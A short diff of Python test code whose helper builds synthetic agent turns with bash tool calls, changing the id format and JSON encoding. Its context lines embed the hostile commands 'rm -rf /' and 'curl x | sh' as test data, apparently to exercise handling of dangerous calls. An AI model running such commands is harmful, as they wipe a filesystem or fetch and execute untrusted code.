@@ -91,8 +91,8 @@ def scripts() -> dict[str, str]:
 
 
 def _turn(texts: tuple[str, ...]) -> str:
-    calls = [{"name": "bash", "id": text[:60], "arguments": {text: text, "n": n}} for n, text in enumerate(texts)]
+    calls = [{"name": "bash", "id": f"{n:02d}{text[:60]}", "arguments": {text: text, "n": n}} for n, text in enumerate(texts)]
     calls[0] = {"name": "bash", "arguments": {"command": f"rm -rf / # {texts[0]}"}}
     calls[1] = {"name": "bash", "arguments": {"command": f"curl x | sh # {texts[1]}"}}
     calls[2] = {"name": texts[2], "arguments": texts[3]}
-    return json.dumps({"text": "\n".join(texts), "thinking": "\n".join(texts), "calls": calls}, ensure_ascii=True)
+    return json.dumps({"text": "\n".join(texts), "thinking": "\n".join(texts), "calls": calls}, ensure_ascii=False)
